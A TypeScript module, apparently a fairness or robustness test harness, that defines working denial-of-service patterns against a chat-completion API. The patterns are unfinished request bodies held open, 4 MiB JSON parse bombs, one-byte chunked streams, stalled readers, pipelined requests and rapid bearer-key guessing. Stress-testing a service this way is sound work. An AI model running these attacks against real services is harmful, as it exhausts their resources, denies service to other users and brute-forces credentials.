import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

/** What one account does to a service, for as long as it is let. */
export interface Attack {
  readonly name: string;
  /** Runs until it is told to end. */
  run(target: AttackTarget, ended: AbortSignal): Promise<void>;
}

/** A service and the key of the account that attacks it. */
export interface AttackTarget {
  /** `http://HOST:PORT` */
  readonly origin: string;
  readonly key: string;
  /** Of the connections that an attack is made of, at least one. */
  readonly share: number;
  readonly onConnected?: () => void;
}

const chatPath = "/v1/chat/completions";
const countPath = "/v1/messages/count_tokens";
const largest = 4 * 1024 * 1024;

/** The dearest body known: empty objects without number, which take a hundred times their bytes when they are parsed. */
function dearest(bytes: number): Buffer {
  const [before, after] = [
    '{"messages":[{"role":"user","content":"{\\"chunks\\":1,\\"intervalMs\\":0}"}],"x":[',
    "{}]}",
  ];
  const count = Math.floor((bytes - before.length - after.length) / 3);
  return Buffer.from(before + "{},".repeat(count) + after);
}

/** A connection that reads what comes, or nothing; a service that ends it is no fault of the attack. */
function open({ onConnected, origin }: AttackTarget, reads = true): Socket {
  const { hostname, port } = new URL(origin);
  const socket = connect(Number(port), hostname, onConnected);
  socket.on("error", () => undefined);
  if (reads) socket.resume();
  return socket;
}

function head(path: string, { key }: AttackTarget, framing: string, extra = ""): string {
  return `POST ${path} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${key}\r\ncontent-type: application/json\r\n${framing}\r\n${extra}\r\n`;
}

/** Keeps so many connections at work, each anew when it has ended. */
async function keep(
  count: number,
  { share }: AttackTarget,
  { begin, ended }: { readonly begin: () => Socket; readonly ended: AbortSignal },
): Promise<void> {
  const sockets = new Set<Socket>();
  async function one(): Promise<void> {
    while (!ended.aborted) {
      const socket = begin();
      sockets.add(socket);
      await new Promise<void>((resolve) => {
        socket.once("close", () => resolve());
        ended.addEventListener("abort", () => resolve(), { once: true });
      });
      sockets.delete(socket);
      socket.destroy();
      // An attacker who costs nobody but the network is not what is measured.
      await sleep(500, undefined, { signal: ended }).catch(() => undefined);
    }
  }
  await Promise.all(Array.from({ length: Math.ceil(count * share) }, one));
}

/** Whole bodies, one connection behind the other, a request each. */
function bodies(count: number, path: string, body: Buffer): Attack["run"] {
  return (target, ended) =>
    keep(count, target, {
      ended,
      begin: () => {
        const socket = open(target);
        const framing = `content-length: ${String(body.byteLength)}\r\nconnection: close`;
        socket.write(head(path, target, framing));
        socket.write(body);
        return socket;
      },
    });
}

const unfinished = Buffer.alloc(largest - 1, " ");

/** What one account sends to keep others from being served. */
export const attacks: readonly Attack[] = [
  {
    name: "unfinished bodies",
    run: (target, ended) =>
      keep(600, target, {
        ended,
        begin: () => {
          const socket = open(target);
          socket.write(`${head(chatPath, target, "content-length: 1000")}{`);
          return socket;
        },
      }),
  },
  {
    name: "unfinished bodies of 4 MiB to count",
    run: (target, ended) =>
      keep(200, target, {
        ended,
        begin: () => {
          const socket = open(target);
          socket.write(head(countPath, target, `content-length: ${String(largest)}`));
          socket.write(unfinished);
          return socket;
        },
      }),
  },
  { name: "bodies of 4 MiB", run: bodies(16, chatPath, dearest(largest - 100)) },
  { name: "bodies of 2 MB, parsed", run: bodies(16, chatPath, dearest(1_990_000)) },
  { name: "counts of 4 MiB", run: bodies(16, countPath, dearest(largest - 100)) },
  {
    name: "one-byte chunks",
    run: (target, ended) =>
      keep(4, target, {
        ended,
        begin: () => {
          const socket = open(target);
          socket.write(head(chatPath, target, "transfer-encoding: chunked"));
          socket.write("1\r\n \r\n".repeat(200_000));
          return socket;
        },
      }),
  },
  {
    name: "600 refusals a minute",
    run: async (target, ended) => {
      const body = Buffer.from("{}");
      while (!ended.aborted) {
        const socket = open(target);
        socket.end(
          head(
            chatPath,
            target,
            `content-length: ${String(body.byteLength)}`,
            "connection: close\r\n",
          ) + body.toString(),
        );
        await sleep(100);
        socket.destroy();
      }
    },
  },
  {
    name: "stopped readers",
    run: (target, ended) =>
      keep(64, target, {
        ended,
        begin: () => {
          const order = JSON.stringify({ chunks: 20_000, intervalMs: 0 });
          const body = JSON.stringify({
            stream: true,
            messages: [{ role: "user", content: order }],
          });
          const socket = open(target, false);
          socket.write(head(chatPath, target, `content-length: ${String(body.length)}`) + body);
          setTimeout(() => socket.destroy(), 3_000).unref();
          return socket;
        },
      }),
  },
  {
    name: "pipelined reads",
    run: (target, ended) =>
      keep(8, target, {
        ended,
        begin: () => {
          const socket = open(target, false);
          socket.write("GET /metrics HTTP/1.1\r\nhost: a\r\n\r\n".repeat(400));
          setTimeout(() => socket.destroy(), 3_000).unref();
          return socket;
        },
      }),
  },
  {
    name: "wrong keys",
    run: (target, ended) =>
      keep(8, target, {
        ended,
        begin: () => {
          const socket = open(target);
          const look = (secret: number): string =>
            `GET /account HTTP/1.1\r\nhost: a\r\nauthorization: Bearer trib_a_b_${String(secret).padStart(43, "0")}\r\n\r\n`;
          const first = Math.floor(Math.random() * 1e9);
          // Some 10,000 in the time that others are measured for.
          socket.write(Array.from({ length: 300 }, (_, at) => look(first + at)).join(""));
          setTimeout(() => socket.destroy(), 1_000).unref();
          return socket;
        },
      }),
  },
  {
    name: "looks at the account",
    run: (target, ended) =>
      keep(4, target, {
        ended,
        begin: () => {
          const socket = open(target);
          const look = `GET /account HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${target.key}\r\n\r\n`;
          socket.write(look.repeat(50));
          setTimeout(() => socket.destroy(), 500).unref();
          return socket;
        },
      }),
  },
];
